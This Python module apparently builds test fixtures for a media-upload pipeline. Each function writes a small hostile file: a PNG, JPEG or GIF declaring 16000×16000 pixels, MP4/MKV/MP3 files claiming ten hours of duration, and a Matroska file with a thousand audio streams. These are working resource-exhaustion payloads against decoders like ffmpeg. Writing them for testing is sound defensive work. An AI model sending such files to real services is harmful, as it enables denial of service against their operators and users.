"""Hostile bombs: tiny files that declare a huge frame, hours of media, a thousand streams.

What makes them dangerous is what a decoder allocates or an encoder is asked to
do when it opens them. Each generator writes one file an uploader could send
and returns its path; the first line of its docstring says what the attack is.
"""

from __future__ import annotations

import struct
from pathlib import Path

from hostile_writers import (
    FFMPEG,
    matroska_bytes,
    pcm_track,
    png_bytes,
    run_ffmpeg,
    small_jpeg,
    video_track,
    write_file,
)


def make_png_frame_mkv(path: Path, side: int = 16000) -> Path:
    """Pixel flood: one real side×side frame (a 1-bit PNG of zeros, ~30 KB) in Matroska."""
    png = write_file(
        path.with_name(path.name + ".png"), png_bytes(side, side, depth=1, colour=0, rows=None)
    )
    try:
        run_ffmpeg(
            [*FFMPEG, "-f", "png_pipe", "-i", str(png), "-c", "copy", "-f", "matroska", str(path)]
        )
    finally:
        png.unlink()
    return path


def make_declared_png_mkv(path: Path, side: int = 16000) -> Path:
    """Decompression bomb: a PNG-in-MKV whose IHDR declares side×side over 100 bytes of data.

    The decoder allocates the whole frame (800 MB at 16000²) before it finds the data missing.
    """
    png = write_file(
        path.with_name(path.name + ".png"), png_bytes(side, side, depth=8, colour=2, rows=1)
    )
    try:
        run_ffmpeg(
            [*FFMPEG, "-f", "png_pipe", "-i", str(png), "-c", "copy", "-f", "matroska", str(path)]
        )
    finally:
        png.unlink()
    return path


def make_declared_jpeg_mkv(path: Path, side: int = 16000) -> Path:
    """Decompression bomb: a ~350-byte MJPEG-in-MKV whose SOF and track declare side×side."""
    jpeg = bytearray(small_jpeg())
    at = next(i for i in range(len(jpeg) - 1) if jpeg[i] == 0xFF and jpeg[i + 1] in (0xC0, 0xC1))
    jpeg[at + 5 : at + 9] = struct.pack(">HH", side, side)  # SOF0: height, width
    blocks = [(1, 0, bytes(jpeg))]
    return write_file(path, matroska_bytes([video_track(1, "V_MJPEG", side, side)], blocks))


def make_gif_screen_bomb(path: Path, side: int = 16000) -> Path:
    """Pixel flood in ~50 bytes: a GIF whose logical screen is side×side around a 1×1 image.

    The GIF decoder paints the whole screen: 1 GB of memory at 16000².
    """
    gif = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    gif += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00" + b"\x3b"
    return write_file(path, gif)


def make_long_frame_mp4(path: Path, hours: float = 10) -> Path:
    """A 1.5 KB MP4 of one frame that lasts `hours`: a true duration, all of it to be encoded."""
    path.parent.mkdir(parents=True, exist_ok=True)
    rate = f"1/{int(hours * 3600)}"
    run_ffmpeg(
        [*FFMPEG, "-f", "lavfi", "-i", f"color=c=gray:s=64x64:r={rate}", "-frames:v", "1"]
        + ["-c:v", "libx264", "-pix_fmt", "yuv420p", "-f", "mp4", str(path)]
    )
    return path


def make_long_declared_mkv(path: Path, hours: float = 10) -> Path:
    """A one-frame Matroska whose Segment Duration declares `hours`."""
    blocks = [(1, 0, small_jpeg())]
    tracks = [video_track(1, "V_MJPEG", 16, 16)]
    return write_file(path, matroska_bytes(tracks, blocks, duration_ms=hours * 3600 * 1000))


def make_long_declared_mp3(path: Path, hours: float = 10) -> Path:
    """A 1 s MP3 whose Xing/Info header claims `hours` worth of frames (ffprobe believes it)."""
    source = path.with_name(path.name + ".short.mp3")
    source.parent.mkdir(parents=True, exist_ok=True)
    run_ffmpeg(
        [*FFMPEG, "-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "1"]
        + ["-c:a", "libmp3lame", "-b:a", "8k", "-f", "mp3", str(source)]
    )
    data = bytearray(source.read_bytes())
    source.unlink()
    at = max(data.find(b"Xing"), data.find(b"Info"))
    assert at > 0 and data[at + 7] & 1, "no Xing/Info header with a frame count"
    frames = int(hours * 3600 * 8000 / 576)  # MPEG-2 layer III at 8 kHz: 576 samples a frame
    data[at + 8 : at + 12] = frames.to_bytes(4, "big")
    return write_file(path, bytes(data))


def make_many_streams_mkv(path: Path, count: int = 1000) -> Path:
    """A Matroska of `count` PCM audio tracks (~220 KB at 1000, ffmpeg's own max_streams)."""
    tracks = [pcm_track(n) for n in range(1, count + 1)]
    blocks = [(n, 0, bytes(160)) for n in range(1, count + 1)]
    return write_file(path, matroska_bytes(tracks, blocks))
